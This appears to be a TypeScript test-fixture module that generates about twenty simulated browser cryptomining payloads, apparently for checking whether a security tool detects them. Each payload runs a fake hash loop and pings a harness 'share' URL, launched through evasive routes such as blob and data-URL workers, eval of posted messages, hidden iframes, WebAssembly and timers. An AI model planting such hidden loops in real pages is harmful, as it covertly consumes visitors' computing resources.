import { type At, quoted } from '../at.ts'
import { effectsOf } from './effect.ts'

const wasm =
  '0,97,115,109,1,0,0,0,1,6,1,96,1,127,1,127,3,2,1,0,7,5,1,1,102,0,0,10,30,1,28,1,1,127,3,64,32,1,32,0,106,65,7,108,33,1,32,0,65,1,107,34,0,13,0,11,32,1,11'
const share = (at: At) => `fetch(${quoted(at.url('share'))}+'?'+Date.now(),{mode:'no-cors'})`
const work = 'var z=Date.now(),h=1;while(Date.now()-z<45)for(var i=0;i<5000;i++)h=Math.imul(h^i,16777619)>>>0;'
const loop = (at: At) => `(function m(){${work}${share(at)};setTimeout(m,35)})()`
const wasmLoop = (at: At) =>
  `WebAssembly.instantiate(new Uint8Array([${wasm}])).then(function(r){var f=(r.instance||r).exports.f;(function m(){var z=Date.now();while(Date.now()-z<45)f(20000);${share(at)};setTimeout(m,35)})()})`
const blob = (code: string) => `URL.createObjectURL(new Blob([${quoted(code)}],{type:'text/javascript'}))`

export const miners = effectsOf(
  'cryptomining',
  'mining',
  {
    worker: (at) => `new Worker(${blob(loop(at))})`,
    'four workers': (at) => `for(var i=0;i<4;i++)new Worker(${blob(loop(at))})`,
    "the page's worker": (at) => `new W.Worker(W.URL.createObjectURL(new W.Blob([${quoted(loop(at))}])))`,
    'worker of data': (at) => `new Worker('data:text/javascript,'+encodeURIComponent(${quoted(loop(at))}))`,
    'module worker': (at) => `new Worker(${blob(loop(at))},{type:'module'})`,
    'shared worker': (at) => `new SharedWorker(${blob(loop(at))})`,
    'worker of a worker': (at) => `new Worker(${blob(`new Worker(${blob(loop(at))})`)})`,
    'worker that loads its code': (at) => `new Worker(${blob(`importScripts(${quoted(at.file(loop(at), 'js'))})`)})`,
    'worker that evaluates a message': (at) =>
      `var w=new Worker(${blob('onmessage=function(e){(0,eval)(e.data)}')});w.postMessage(${quoted(loop(at))})`,
    'worker by Reflect': (at) => `Reflect.construct(Worker,[${blob(loop(at))}])`,
    'worker of a fresh frame': (at) =>
      `var f=D.createElement('iframe');f.style.display='none';D.body.appendChild(f);new f.contentWindow.Worker(${blob(loop(at))})`,
    'compiled code in a worker': (at) => `new Worker(${blob(wasmLoop(at))})`,
    'compiled code': (at) => wasmLoop(at),
    "the page's compiled code": (at) => wasmLoop(at).replace('WebAssembly.', 'W.WebAssembly.'),
    timer: (at) => `setInterval(function(){${work}${share(at)}},80)`,
    "the page's timer": (at) => `W.setInterval(function(){${work}${share(at)}},80)`,
    'drawing loop': (at) => `(function m(){${work}${share(at)};requestAnimationFrame(m)})()`,
    'message loop': (at) =>
      `var c=new MessageChannel();c.port1.onmessage=function(){${work}${share(at)};setTimeout(function(){c.port2.postMessage(0)},30)};c.port2.postMessage(0)`,
    'promise loop': (at) =>
      `(async function(){for(;;){${work}${share(at)};await new Promise(function(r){setTimeout(r,30)})}})()`,
    'digest loop': (at) =>
      `(function m(){var p=[];for(var i=0;i<60;i++)p.push(crypto.subtle.digest('SHA-256',new Uint8Array(20000)));Promise.all(p).then(function(){${share(at)};setTimeout(m,20)})})()`,
    'text in the page': (at) => `W.eval(${quoted(`new Worker(URL.createObjectURL(new Blob([${quoted(loop(at))}])))`)})`,
  },
  { isNeverMeant: true },
)
